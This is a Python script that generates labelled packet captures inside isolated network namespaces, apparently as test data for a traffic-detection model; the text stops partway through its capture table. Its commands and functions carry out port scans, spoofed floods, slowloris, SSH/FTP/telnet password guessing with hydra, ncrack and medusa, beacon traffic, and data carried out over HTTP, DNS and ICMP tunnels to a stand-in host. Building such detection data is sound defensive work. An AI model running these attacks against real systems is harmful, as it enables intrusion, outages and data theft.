#!/usr/bin/env python3
"""Makes the captures of tests/data/traffic: real tools between network namespaces, recorded by tcpdump.

  scripts/traffic.py FOLDER              all of them, one after the other (an hour)
  scripts/traffic.py FOLDER NAME...      only these
  scripts/traffic.py --list              what there is

Needs root, and the packages iproute2 iptables tcpdump nmap masscan fping hping3 slowhttptest siege hydra ncrack medusa openssh-server
dropbear-bin sshpass vsftpd dnsmasq-base curl openssl iodine dns2tcp ptunnel-ng wrk.
Nothing leaves the machine: seven hosts hang on a bridge in namespaces of their own, without a way out. What a host does is told by its
address, which is how the records are labelled (models/flow/captures.yml):

  10.77.0.10 10.77.0.11   servers: sshd, vsftpd, web, names; .11 drops what it does not serve
  10.77.0.30 to .59       addresses of .10, so that there is somebody to go from host to host to
  10.77.0.21 10.77.0.22   clients that do ordinary things all the while
  10.77.0.66              does what the capture is called after
  10.77.0.99              the far end of beacons and of what is carried out
  10.77.0.98              the far end of tunnels
  203.0.113.0/24          addresses where nobody answers

Each capture runs for two minutes or less and is cut to the first bytes of each packet; sizes and times differ from run to run, what
happens does not. office.ndjson.gz is not of this script: `oversight simulate --seed 11 --hours 13`, its uids numbered and what a
sensor adds left out.
"""

import gzip
import os
import random
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import zlib

HOSTS = {"web": 10, "shy": 11, "anna": 21, "ben": 22, "mallory": 66, "deep": 98, "far": 99}
LAN = "ovlan"
PASSWORDS = ["123456", "letmein", "qwerty", "admin", "root", "toor", "dragon", "monkey", "summer24", "hunter2"]


def run(command, check=True, **more):
    return subprocess.run(command, shell=True, check=check, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **more)


def inside(host, command, check=False, **more):
    return run(f"ip netns exec ov{host} {command}", check=check, **more)


def start(host, command):
    return subprocess.Popen(f"exec ip netns exec ov{host} {command}", shell=True, stdin=subprocess.DEVNULL,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid)


def stop(processes):
    for process in processes:
        try:
            os.killpg(process.pid, signal.SIGTERM)
        except ProcessLookupError:
            pass
    for process in processes:
        process.wait()


def address(host):
    return f"10.77.0.{HOSTS[host]}"


def card(host):
    return f"02:00:0a:4d:00:{HOSTS[host]:02x}"


class Network:
    """The hosts and what they serve."""

    def __enter__(self):
        self.folder = tempfile.mkdtemp(prefix="ov-traffic-")
        self.close_namespaces()
        run(f"ip netns add {LAN}")
        run(f"ip -n {LAN} link add br0 type bridge")
        run(f"ip -n {LAN} link set br0 up")
        for host, last in HOSTS.items():
            run(f"ip netns add ov{host}")
            run(f"ip link add eth0 netns ov{host} type veth peer name v{last} netns {LAN}")
            run(f"ip -n {LAN} link set v{last} master br0 up")
            run(f"ip -n ov{host} link set eth0 address {card(host)}")
            run(f"ip -n ov{host} addr add {address(host)}/24 dev eth0")
            run(f"ip -n ov{host} link set eth0 up")
            run(f"ip -n ov{host} link set lo up")
        for last in range(30, 60):
            run(f"ip -n ovweb addr add 10.77.0.{last}/24 dev eth0")
        run(f"ip -n ovmallory route add 203.0.113.0/24 via {address('shy')}")
        self.serve()
        time.sleep(2)
        return self

    def serve(self):
        d = self.folder
        os.makedirs(f"{d}/www")
        for number in range(40):
            with open(f"{d}/www/{number}.html", "wb") as page:
                page.write(b"<p>page</p>" * random.Random(number).randint(5, 9000))
        run(f"ssh-keygen -q -t ed25519 -N '' -f {d}/host")
        run(f"ssh-keygen -q -t ed25519 -N '' -f {d}/key")
        os.makedirs("/run/sshd", exist_ok=True)
        sshd = (f"/usr/sbin/sshd -D -e -f /dev/null -h {d}/host -o AuthorizedKeysFile={d}/key.pub -o StrictModes=no "
                f"-o PidFile=none -o PermitRootLogin=yes -o MaxStartups=200 -o UsePAM=no -o PasswordAuthentication=yes")
        os.makedirs(f"{d}/ftp/up", exist_ok=True)
        os.chmod(f"{d}/ftp/up", 0o777)
        shutil.copy(f"{d}/www/7.html", f"{d}/ftp/seven")
        with open(f"{d}/vsftpd.conf", "w") as conf:
            conf.write(f"listen=YES\nlocal_enable=YES\nanonymous_enable=YES\nwrite_enable=YES\nanon_root={d}/ftp\n"
                       "anon_upload_enable=YES\nno_anon_password=YES\nseccomp_sandbox=NO\nbackground=NO\nmax_login_fails=3\n")
        os.makedirs("/var/run/vsftpd/empty", exist_ok=True)
        os.chmod(d, 0o755)
        self.servers = [start(host, command) for host in ("web", "shy") for command in (
            sshd, f"vsftpd {d}/vsftpd.conf", f"python3 -m http.server 80 --directory {d}/www --protocol HTTP/1.1",
            "dnsmasq -k -h -R -C /dev/null --address=/#/10.77.0.10 --pid-file")]
        receiver = ("python3 -c \"import http.server as s\nclass H(s.BaseHTTPRequestHandler):\n protocol_version='HTTP/1.1'\n"
                    " def do_POST(self):\n  n=int(self.headers.get('content-length',0))\n  while n>0: n-=len(self.rfile.read(min(n,65536)))\n"
                    "  self.send_response(200); self.send_header('content-length','2'); self.end_headers(); self.wfile.write(b'ok')\n"
                    " do_PUT=do_POST\n def do_GET(self): self.do_POST()\n"
                    "s.ThreadingHTTPServer(('',443),H).serve_forever()\"")
        irc = ("python3 -c \"import socketserver as s\nclass H(s.BaseRequestHandler):\n def handle(self):\n"
               "  d=self.request.recv(400); self.request.sendall(b'!ping '+b'x'*180); self.request.recv(400)\n"
               "class T(s.ThreadingTCPServer): allow_reuse_address=True\nT(('',6667),H).serve_forever()\"")
        broken = ("python3 -c \"import socketserver as s, socket as k, struct as t, time\nclass H(s.BaseRequestHandler):\n def handle(self):\n"
                  "  d=self.request.recv(900); self.request.sendall(b'x'*90); time.sleep(0.7)\n"
                  "  self.request.setsockopt(k.SOL_SOCKET, k.SO_LINGER, t.pack('ii',1,0)); self.request.close()\n"
                  "class T(s.ThreadingTCPServer): allow_reuse_address=True\nT(('',1337),H).serve_forever()\"")
        telnet = ("python3 -c \"import socketserver as s\nclass H(s.StreamRequestHandler):\n timeout=20\n def handle(self):\n"
                  "  w=self.wfile; w.write(bytes([255,253,1,255,253,31,255,251,3])+b'box login: ')\n  for i in range(3):\n"
                  "   self.rfile.readline(); w.write(b'Password: '); self.rfile.readline(); w.write(b'\\r\\nLogin incorrect\\r\\nbox login: ')\n"
                  "class T(s.ThreadingTCPServer): allow_reuse_address=True\nT(('',23),H).serve_forever()\"")
        run(f"openssl req -x509 -newkey rsa:2048 -nodes -keyout {d}/tls.key -out {d}/tls.pem -subj /CN=far -days 30")
        run(f"dropbearkey -t ed25519 -f {d}/dropbear", check=False)
        sealed = receiver.replace("import http.server as s", "import http.server as s, ssl").replace(
            "s.ThreadingHTTPServer(('',443),H).serve_forever()",
            f"v=s.ThreadingHTTPServer(('',8443),H)\nc=ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\n"
            f"c.load_cert_chain('{d}/tls.pem','{d}/tls.key')\nv.socket=c.wrap_socket(v.socket,server_side=True)\nv.serve_forever()")
        self.servers += [start("web", telnet), start("far", sealed), start("deep", receiver),
                         start("web", f"dropbear -F -r {d}/dropbear -p 2222 -P {d}/dropbear.pid")]
        with open(f"{d}/dns2tcpd.conf", "w") as conf:
            conf.write(f"listen={address('deep')}\nport=53\nuser=nobody\nchroot=/tmp\ndomain=d.example.net\nresources=up:127.0.0.1:443\n")
        self.servers += [start("far", receiver), start("far", irc), start("far", broken), start("far", sshd),
                         start("far", "dnsmasq -k -h -R -C /dev/null --address=/#/10.77.0.99 --pid-file")]
        inside("shy", "iptables -A INPUT -p tcp -m multiport ! --dports 21,22,80 --syn -j DROP")

    def __exit__(self, *_):
        stop(self.servers)
        self.close_namespaces()
        shutil.rmtree(self.folder)

    def close_namespaces(self):
        for name in [LAN] + [f"ov{host}" for host in HOSTS]:
            run(f"ip netns del {name}", check=False)


def ordinary(network, host, seconds, seed):
    """Pages with pauses, names looked up, a login with a key, a transfer: in a process of its own."""
    chance, d = random.Random(seed), network.folder
    ssh = f"ssh -i {d}/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes root@"
    until = time.time() + seconds
    while time.time() < until:
        server = chance.choice(["web", "shy"])
        what = chance.random()
        if what < 0.6:
            names = " ".join(f"http://{address(server)}/{chance.randint(0, 42)}.html" for _ in range(chance.randint(1, 4)))
            inside(host, f"curl -s -m 10 {names}")
        elif what < 0.85:
            inside(host, f"python3 {__file__} --ask {address('web')} {chance.choice(['www', 'mail', 'cdn', 'api'])}.example.org")
        elif what < 0.9:
            inside(host, f"{ssh}{address(server)} uptime")
        elif what < 0.94:
            inside(host, f"curl -s -m 10 ftp://{address(server)}/seven")
        elif what < 0.97:
            inside(host, f"ping -c {chance.randint(1, 4)} -i 0.3 {address(server)}")
        else:
            inside(host, f"curl -s -m 2 http://{address(server)}:{chance.choice([8080, 3000])}/")
        time.sleep(chance.expovariate(1.0))


def ask(server, name):
    """One question for a name, by UDP."""
    import socket
    question = struct.pack(">HHHHHH", random.randint(0, 65535), 0x100, 1, 0, 0, 0)
    question += b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.settimeout(2)
        wire.sendto(question, (server, 53))
        try:
            wire.recv(4096)
        except TimeoutError:
            pass


def guess_ssh(server, pause, count, tries):
    for number in range(count):
        run(f"sshpass -p {PASSWORDS[number % len(PASSWORDS)]}{number} ssh -o StrictHostKeyChecking=no "
            f"-o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts={tries} root@{server} true", check=False)
        time.sleep(pause * random.uniform(0.7, 1.3))


def guess_ftp(server, pause, count):
    import ftplib
    for number in range(count):
        try:
            with ftplib.FTP(server, timeout=15) as ftp:
                for attempt in range(1 + number % 2):
                    try:
                        ftp.login("admin", PASSWORDS[(number + attempt) % len(PASSWORDS)])
                    except ftplib.error_perm:
                        pass
        except (OSError, EOFError, ftplib.Error):
            pass
        time.sleep(pause)


def many(count, what, *arguments):
    """The same so many times at once."""
    children = []
    for _ in range(count):
        child = os.fork()
        if child == 0:
            globals()[what](*arguments)
            os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)


def beacon(server, port, pause, jitter, seconds, size):
    """A connection after about each pause, with the same question and the same answer."""
    import socket
    until = time.time() + seconds
    while time.time() < until:
        try:
            with socket.create_connection((server, port), timeout=3) as wire:
                wire.sendall(b"NICK bot\r\nUSER x x x x\r\n".ljust(size, b"."))
                wire.recv(400)
        except OSError:
            pass
        time.sleep(pause * random.uniform(1 - jitter, 1 + jitter))


def silent(server, seconds):
    """Calls to several hosts and ports where nobody answers, each as long as the kernel tries."""
    import socket
    import threading
    until = time.time() + seconds

    def call(port, pause):
        while time.time() < until:
            try:
                with socket.create_connection((server, port), timeout=min(20, max(1, until - time.time()))):
                    pass
            except OSError:
                pass
            time.sleep(pause)

    threads = [threading.Thread(target=call, args=pair) for pair in ((6667, 3), (4444, 8), (1337, 15), (48101, 1))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def peers(pause, seconds):
    """What a bot asks the bots that it knows of, most of which are no more: a few bytes by UDP to one after the other."""
    import socket
    chance, until = random.Random(5), time.time() + seconds
    known = [(f"10.77.0.{chance.choice([11, *range(30, 60)])}", chance.randint(1024, 65000)) for _ in range(40)]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.bind(("", 31337))
        while time.time() < until:
            wire.sendto(chance.randbytes(chance.choice([16, 60, 108])), chance.choice(known))
            time.sleep(pause * chance.expovariate(1.0))


def orders_in_names(server, pause, seconds):
    """Asks for orders by names, each with a number of its own."""
    chance, until = random.Random(9), time.time() + seconds
    while time.time() < until:
        ask(server, f"{chance.getrandbits(48):012x}.c.example.net")
        time.sleep(pause * random.uniform(0.8, 1.2))


def lookups(server, pause, seconds):
    """What a mail server or a page with many parts looks up: names of all sorts, some of them long."""
    chance, until = random.Random(3), time.time() + seconds
    hosts = ["www", "mail", "mx1", "cdn", "img", "static", "api", "e1234.dscb", "s3.eu-west-1", "_dmarc", "selector1._domainkey", "ns2"]
    while time.time() < until:
        for _ in range(chance.choice([1, 2, 6, 12])):
            ask(server, f"{chance.choice(hosts)}.{''.join(chance.choices('aeiou', k=3))}{chance.choice(['shop', 'bank', 'news', 'post'])}"
                        f"{chance.randint(1, 60)}.example.{chance.choice(['com', 'org', 'net'])}")
        time.sleep(pause * chance.expovariate(1.0))


def guess_telnet(first, last, tries, pause):
    """What bots of boxes do: looks from host to host for a login, and tries what boxes are sold with."""
    import socket
    for host in range(first, last):
        for number in range(tries):
            try:
                with socket.create_connection((f"10.77.0.{host}", 23), timeout=3) as wire:
                    for _ in range(1 + number % 3):
                        for word in ("root", PASSWORDS[number % len(PASSWORDS)]):
                            wire.recv(400)
                            wire.sendall(word.encode() + b"\r\n")
                    wire.recv(400)
            except OSError:
                pass
            time.sleep(pause)


def scan_connect(server, first, last, pause):
    import socket
    for port in range(first, last):
        with socket.socket() as wire:
            wire.settimeout(0.2)
            wire.connect_ex((server, port))
        time.sleep(pause)


def banners(first, last, pause):
    """Asks every port of interest of several hosts what serves there, and leaves."""
    import socket
    for host in range(first, last):
        for port in (21, 22, 23, 25, 53, 80, 110, 143, 443, 3306, 8080):
            try:
                with socket.create_connection((f"10.77.0.{host}", port), timeout=0.5) as wire:
                    if port in (80, 443, 8080):
                        wire.sendall(b"HEAD / HTTP/1.0\r\n\r\n")
                    wire.recv(300)
            except OSError:
                pass
            time.sleep(pause)


def pings(first, last, count, pause):
    for host in range(first, last):
        run(f"ping -n -c {count} -i 0.2 -W 1 10.77.0.{host}", check=False)
        time.sleep(pause)


def call_home(server, pause, jitter, seconds, size, sealed=0):
    """Asks a web server for orders, and tells it something each fifth time."""
    import ssl
    import urllib.request
    until, number = time.time() + seconds, 0
    place, trust = (f"https://{server}:8443", ssl._create_unverified_context()) if sealed else (f"http://{server}:443", None)
    while time.time() < until:
        number += 1
        data = b"r" * (size * 4) if number % 5 == 0 else None
        try:
            request = urllib.request.Request(f"{place}/{'a' * (size % 90)}?id=77", data=data)
            urllib.request.urlopen(request, timeout=3, context=trust).read()
        except OSError:
            pass
        time.sleep(pause * random.uniform(1 - jitter, 1 + jitter))


def carry_by_ftp(server, count):
    import ftplib
    import io
    for number in range(count):
        with ftplib.FTP(server, "anonymous", "x", timeout=30) as ftp:
            ftp.storbinary(f"STOR up/{number}-{random.random()}", io.BytesIO(bytes(3_000_000 * (1 + number % 4))))
        time.sleep(0.5)


def carry_in_names(server, count, length, pause):
    """As another tool does: one long label in hexadecimal, behind a number."""
    chance = random.Random(count)
    for number in range(count):
        ask(server, f"{number:04x}{chance.getrandbits(4 * length):0{length}x}.d.example.com")
        time.sleep(pause * random.uniform(0.5, 1.5))


def look_after(network_key, server, pause, seconds):
    """What an administrator's scripts do: a login with a key again and again, a health check, a file fetched."""
    until = time.time() + seconds
    ssh = f"ssh -i {network_key} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes root@{server}"
    while time.time() < until:
        run(f"{ssh} 'uptime; df'", check=False)
        run(f"curl -s -m 5 http://{server}/3.html", check=False)
        run(f"curl -s -m 5 ftp://{server}/seven", check=False)
        time.sleep(pause)


def poll(server, pause, seconds):
    """A page that looks whether there is something new."""
    until = time.time() + seconds
    while time.time() < until:
        run(f"curl -s -m 5 http://{server}/5.html", check=False)
        time.sleep(pause * random.uniform(0.95, 1.05))


def pages(server, clients, pause, seconds, most):
    """So many clients call pages, each on a connection of its own, after pauses."""
    import threading
    import urllib.request
    until, left = time.time() + seconds, [most]

    def call(chance):
        while time.time() < until and left[0] > 0:
            left[0] -= 1
            page = f"http://{server}/{chance.randint(0, 39)}.html?{chance.getrandbits(chance.choice([20, 60, 120])):x}"
            try:
                urllib.request.urlopen(page, timeout=5).read()
            except OSError:
                pass
            time.sleep(pause * chance.uniform(0.5, 1.5))

    threads = [threading.Thread(target=call, args=(random.Random(number),)) for number in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def watch(first, last, pause, seconds):
    """What a monitoring system does: each host's login, page and answer to a ping, again and again."""
    import socket
    until = time.time() + seconds
    while time.time() < until:
        for host in range(first, last):
            for port, question in ((22, b""), (80, b"GET /3.html HTTP/1.0\r\n\r\n"), (21, b"")):
                try:
                    with socket.create_connection((f"10.77.0.{host}", port), timeout=2) as wire:
                        wire.settimeout(2)
                        if question:
                            wire.sendall(question)
                        while question and wire.recv(65536):
                            pass
                        if not question:
                            wire.recv(200)
                except OSError:
                    pass
            run(f"ping -n -c 2 -i 0.2 -W 1 10.77.0.{host}", check=False)
        time.sleep(pause)


def probe(first, last, port, pause, seconds):
    """What a load balancer does: looks whether each server takes a connection, and closes it."""
    import socket
    until = time.time() + seconds
    while time.time() < until:
        for host in range(first, last):
            try:
                socket.create_connection((f"10.77.0.{host}", port), timeout=1).close()
            except OSError:
                pass
        time.sleep(pause)


def crawl(first, last, pause, seconds):
    """What a proxy for many people does: names are asked for, and pages called, of one host after the other, several at once."""
    import threading
    import urllib.request
    until = time.time() + seconds

    def call(chance):
        while time.time() < until:
            host = chance.randint(first, last)
            for _ in range(chance.choice([1, 1, 2, 5])):
                ask(address("web"), f"www{host}.example.{chance.choice(['com', 'org', 'net'])}")
                try:
                    urllib.request.urlopen(f"http://10.77.0.{host}/{chance.randint(0, 42)}.html", timeout=5).read()
                except OSError:
                    pass
            time.sleep(pause * chance.expovariate(1.0))

    threads = [threading.Thread(target=call, args=(random.Random(number),)) for number in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def talk(server, port, packets, calls):
    """What a telephone does: fifty small packets a second either way, for as long as somebody speaks."""
    import socket
    for call in range(calls):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
            wire.setblocking(False)
            for _ in range(packets * (1 + call % 3)):
                wire.sendto(random.randbytes(172), (server, port + 2 * call))
                time.sleep(0.02)
        time.sleep(2)


def answer(port, calls, seconds):
    """The other telephone."""
    import select
    import socket
    until, wires = time.time() + seconds, []
    for call in range(calls):
        wires.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        wires[-1].bind(("", port + 2 * call))
    while time.time() < until:
        for wire in select.select(wires, [], [], 1)[0]:
            _, other = wire.recvfrom(2000)
            wire.sendto(random.randbytes(172), other)


def hold_open(server, count, seconds):
    """Slow headers on many connections, as slowloris does."""
    import socket
    wires = []
    until = time.time() + seconds
    while time.time() < until:
        while len(wires) < count:
            try:
                wire = socket.create_connection((server, 80), timeout=2)
                wire.sendall(b"GET /?1 HTTP/1.1\r\nHost: x\r\nUser-Agent: y\r\n")
                wires.append(wire)
            except OSError:
                break
        for wire in list(wires):
            try:
                wire.sendall(b"X-a: b\r\n")
            except OSError:
                wires.remove(wire)
        time.sleep(1)


def carry_by_names(server, count):
    chance = random.Random(count)
    for number in range(count):
        part = "".join(chance.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(chance.randint(40, 60)))
        ask(server, f"{part}.{part[::-1]}.t{number % 7}.carry.example.net")
        time.sleep(0.03)


def mine(what, *arguments):
    return f"python3 {os.path.abspath(__file__)} --do {what} " + " ".join(map(str, arguments))


def through(tunnel, up, rounds=3):
    """Opens a tunnel, carries something out through it, and closes it again, so many times."""
    return (f"sh -c 'for i in $(seq 1 {rounds}); do {tunnel} & t=$!; sleep 4; head -c $((i * 90000)) /dev/urandom | curl -s -m 20 -T - {up}; "
            "kill $t; wait $t; sleep 1; done'")


D = address("deep")
W, S, F, LANS = address("web"), address("shy"), address("far"), "10.77.0.0/24"
LIST = "/tmp/ov-passwords"
CAPTURES = {
    # name: seconds at most, commands of the one host, one after the other
    "scan-syn": (40, [f"nmap -n -Pn -sS -p1-1000 {W}"]),
    "scan-connect": (40, [f"nmap -n -Pn -sT --top-ports 600 {W}"]),
    "scan-dropped": (45, [f"nmap -n -Pn -sS -T4 --max-retries 1 -p1-800 {S}"]),
    "scan-udp": (45, [f"nmap -n -Pn -sU -T4 --max-retries 1 --top-ports 150 {W}"]),
    "scan-sweep": (45, [f"nmap -n -sn {LANS}", f"nmap -n -Pn -sS -T4 --max-retries 1 -p22,445,3389 {LANS}"]),
    "scan-versions": (60, [f"nmap -n -Pn -sV --version-light -p21,22,53,80,443,445,8080 {W} {S}", f"nmap -n -Pn -sC -p21,22,80 {W}"]),
    "scan-flags": (40, [f"nmap -n -Pn -sF -T4 -p1-300 {W}", f"nmap -n -Pn -sX -T4 -p1-300 {W}", f"nmap -n -Pn -sA -T4 -p1-300 {S}"]),
    "scan-slow": (58, [f"nmap -n -Pn -sS --scan-delay 400ms --max-retries 0 -p1-130 {W}"]),
    "scan-script": (40, [mine("scan_connect", W, 1, 400, 0.02)]),
    "flood-syn": (20, [f"hping3 -S -p 80 -i u200 -c 4000 {W}"]),
    "flood-syn-closed": (20, [f"hping3 -S -p 8081 -i u150 -c 4000 {W}"]),
    "flood-syn-many": (20, [f"hping3 -S -p 80 --rand-source -i u300 -c 4000 {W}"]),
    "flood-syn-dropped": (20, [f"hping3 -S -p 8443 -i u200 -c 4000 {S}"]),
    "flood-udp": (20, [f"hping3 --udp -p 53 -d 120 -i u300 -c 3000 {S}", f"hping3 --udp -p 5000 -d 60 -i u300 -c 2000 {W}"]),
    "flood-udp-closed": (20, [f"hping3 --udp -p 33000 -d 500 -i u300 -c 3000 {W}"]),
    "flood-udp-many": (20, [f"hping3 --udp -p 53 -d 40 --rand-source -i u400 -c 3000 {W}"]),
    "flood-udp-ports": (20, [f"hping3 --udp -p ++1000 -d 1000 -i u300 -c 3000 {S}"]),
    "flood-icmp": (20, [f"hping3 --icmp -d 600 -i u400 -c 3000 {W}", f"hping3 --icmp --rand-source -i u400 -c 2000 {W}"]),
    "flood-ack": (20, [f"hping3 -A -p 80 -i u300 -c 3000 {W}", f"hping3 -R -p 22 -i u500 -c 1500 {W}"]),
    "flood-slow": (40, [mine("hold_open", W, 200, 35)]),
    "guess-ssh-hydra": (55, [f"hydra -I -t 4 -l root -P {LIST} ssh://{W}"]),
    "guess-ssh-hydra-wide": (50, [f"hydra -I -t 16 -l admin -P {LIST} ssh://{S}"]),
    "guess-ssh-script": (58, [mine("guess_ssh", W, 0.3, 60, 1)]),
    "guess-ssh-slow": (60, [mine("guess_ssh", S, 3, 30, 2)]),
    "guess-ftp-hydra": (50, [f"hydra -I -t 8 -l admin -P {LIST} ftp://{W}"]),
    "guess-ftp-script": (60, [mine("guess_ftp", W, 0.2, 60)]),
    "guess-ssh-wide": (100, [mine("many", 8, "guess_ssh", W, 0.1, 60, 1)]),
    "guess-ssh-rounds": (100, [mine("many", 5, "guess_ssh", S, 0.5, 60, 3)]),
    "guess-ftp-wide": (80, [mine("many", 12, "guess_ftp", S, 0.1, 60)]),
    "guess-ftp-slow": (100, [mine("many", 2, "guess_ftp", W, 1.5, 60)]),
    "guess-ssh-hydra-long": (110, [f"hydra -I -t 6 -l oracle -P {LIST} ssh://{W}"]),
    "beacon-fast": (60, [mine("beacon", F, 6667, 1, 0.1, 58, 75)]),
    "beacon-slow": (118, [mine("beacon", F, 6667, 5, 0.3, 116, 140)]),
    "beacon-dead": (100, [mine("beacon", F, 4444, 4, 0.1, 95, 60)]),
    "beacon-unanswered": (100, [mine("beacon", S, 6668, 3, 0.2, 95, 60)]),
    "beacon-dead-many": (110, [mine("many", 6, "beacon", S, 6667, 7, 0.2, 105, 60)]),
    "beacon-silent": (115, [mine("silent", S, 110)]),
    "carry-web": (40, [f"sh -c 'head -c {size}000000 /dev/zero | curl -s -m 30 -T - http://{F}:443/up'" for size in (30, 80, 150)]),
    "carry-ssh": (40, [f"sh -c 'head -c {size}000000 /dev/zero | ssh -i KEY -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@{F} \"cat >/dev/null\"'" for size in (25, 60, 120)]),
    "carry-names": (45, [mine("carry_by_names", F, 900)]),
    "guess-ssh-nmap": (12, [f"nmap -n -Pn -p22 --script ssh-brute --script-args userdb={LIST},passdb={LIST} {S}"]),
    "guess-ftp-nmap": (45, [f"nmap -n -Pn -p21 --script ftp-brute --script-args userdb={LIST},passdb={LIST} {W}"]),
    "guess-ssh-seldom": (110, [mine("guess_ssh", W, 7, 30, 1)]),
    "guess-ssh-around": (60, [mine("guess_ssh", f"10.77.0.{last}", 0.1, 3, 2) for last in range(30, 48)]),
    "scan-versions-all": (75, [f"nmap -n -Pn -sV -p1-120 {W}", f"nmap -n -Pn -A -p21,22,80 {S}"]),
    "scan-banners": (60, [mine("banners", 30, 50, 0.05)]),
    "scan-pings": (45, ["nmap -n -sn -PE --disable-arp-ping --send-ip 10.77.0.10-11,21-22,30-59", mine("pings", 30, 60, 1, 0.3)]),
    "scan-pings-few": (45, [mine("pings", 30, 40, 2, 2)]),
    "scan-one-port": (45, ["nmap -n -Pn -sS -p22 10.77.0.30-59", mine("banners", 50, 60, 0.3)]),
    "beacon-web": (110, [mine("call_home", F, 4, 0.2, 105, 40)]),
    "beacon-web-fast": (60, [mine("call_home", F, 1, 0.5, 55, 133)]),
    "beacon-broken": (100, [mine("beacon", F, 1337, 3, 0.3, 95, 220)]),
    "carry-hex": (60, [mine("carry_in_names", F, 300, 50, 0.15)]),
    "carry-ftp": (50, [mine("carry_by_ftp", W, 12)]),
    "carry-web-parts": (60, [f"sh -c 'for i in $(seq 1 25); do head -c $((i % 5 + 1))000000 /dev/urandom | curl -s -m 30 -T - http://{F}:443/$i; sleep 1; done'"]),
    "scan-masscan": (40, [f"masscan -p1-900 --rate 120 --wait 2 -e eth0 --router-mac {card('web')} {W}"]),
    "scan-masscan-net": (40, [f"masscan -p23,445,8080 --rate 30 --wait 2 -e eth0 --router-mac {card('web')} 10.77.0.30-10.77.0.59"]),
    "scan-void": (45, [f"masscan -p23,2323,37215 --rate 20 --wait 1 -e eth0 --router-mac {card('shy')} 203.0.113.0/24", "nmap -n -Pn -sS -T4 --max-retries 1 -p5555 203.0.113.0/25"]),
    "scan-void-slow": (75, [f"nmap -n -Pn -sT --scan-delay 300ms --max-retries 0 -p23 203.0.113.0-199"]),
    "scan-fping": (45, [f"fping -c 1 -i 20 -q -g {LANS}", "fping -c 2 -i 150 -q -g 10.77.0.10 10.77.0.70"]),
    "scan-versions-net": (60, ["nmap -n -Pn -sV -p21,22,23,53,80 10.77.0.30-44"]),
    "scan-versions-one": (50, [f"nmap -n -Pn -sV --version-all -p80 {S}", f"nmap -n -Pn -sV -p22 {W}", "nmap -n -Pn --script banner -p21,22,23,2222 10.77.0.30-36"]),
    "flood-slow-heads": (40, [f"slowhttptest -c 250 -H -i 3 -r 60 -t GET -u http://{W}/1.html -x 24 -p 3 -l 30"]),
    "flood-slow-bodies": (40, [f"slowhttptest -c 250 -B -i 4 -r 40 -s 8192 -t POST -u http://{W}/ -x 10 -p 3 -l 30"]),
    "flood-slow-reads": (40, [f"slowhttptest -c 200 -X -r 50 -w 512 -y 1024 -n 5 -z 32 -k 3 -u http://{W}/7.html -p 3 -l 30"]),
    "flood-pages": (15, [f"siege -q -b -c 40 -t 2S http://{W}/3.html"]),
    "flood-pages-wrk": (15, [f"wrk -t 2 -c 30 -d 1s -H 'Connection: close' http://{W}/9.html"]),
    "flood-replies": (20, [f"hping3 --icmp --icmptype 0 -d 900 -i u500 -c 3000 {W}", f"hping3 --icmp --icmptype 0 --rand-source -d 60 -i u800 -c 2000 {W}"]),
    "flood-syn-steady": (30, [f"hping3 -S -p 443 -i u8000 -c 2500 {W}"]),
    "guess-ssh-ncrack": (60, [f"ncrack -u root -P {LIST} -T4 ssh://{W}"]),
    "guess-ftp-ncrack": (50, [f"ncrack -u admin -P {LIST} ftp://{S}"]),
    "guess-ssh-medusa": (60, [f"medusa -h {W} -u root -P {LIST} -M ssh -t 3"]),
    "guess-ftp-medusa": (50, [f"medusa -h {S} -u admin -P {LIST} -M ftp -t 4"]),
    "guess-telnet-hydra": (50, [f"hydra -I -t 6 -l root -P {LIST} telnet://{W}"]),
    "guess-telnet-ncrack": (50, [f"ncrack -u root -P {LIST} telnet://{W}"]),
    "guess-telnet-around": (60, [mine("guess_telnet", 30, 58, 6, 0.15)]),
    "guess-dropbear-hydra": (60, [f"hydra -I -t 4 -s 2222 -l root -P {LIST} ssh://{W}"]),
    "guess-ssh-medusa-around": (75, [f"medusa -h 10.77.0.{last} -u root -P /tmp/ov-few -M ssh" for last in range(30, 50)]),
    "beacon-sealed": (115, [mine("call_home", F, 5, 0.3, 112, 60, 1)]),
    "beacon-sealed-fast": (60, [mine("call_home", F, 1.5, 0.1, 56, 20, 1)]),
    "beacon-patient": (118, [mine("beacon", "203.0.113.77", 443, 7, 0.3, 115, 60)]),
    "beacon-peers": (90, [mine("peers", 0.8, 86)]),
    "beacon-names": (90, [mine("orders_in_names", F, 2, 86)]),
    "carry-iodine": (110, [through(f"iodine -f -r -P secret {D} t.example.net", "http://172.30.7.1:443/up")], f"iodined -f -c -P secret 172.30.7.1/24 t.example.net"),
    "carry-dns2tcp": (110, [through(f"dns2tcpc -r up -z d.example.net -l 4433 {D}", "http://127.0.0.1:4433/up")], "dns2tcpd -F -f FOLDER/dns2tcpd.conf"),
    "carry-pings": (110, [through(f"ptunnel-ng -p{D} -l4433 -r127.0.0.1 -R443", "http://127.0.0.1:4433/up")], "ptunnel-ng"),
    "carry-sealed": (50, [f"sh -c 'for i in 9 21 40 64; do head -c $((i * 1000000)) /dev/urandom | curl -s -k -m 30 -T - https://{F}:8443/$i; sleep 2; done'"]),
    "quiet-names": (75, [mine("lookups", W, 0.7, 70)]),
    "quiet-names-many": (60, [mine("many", 3, "lookups", W, 2.0, 55)]),
    "quiet-watch": (75, [mine("watch", 30, 42, 5, 70)]),
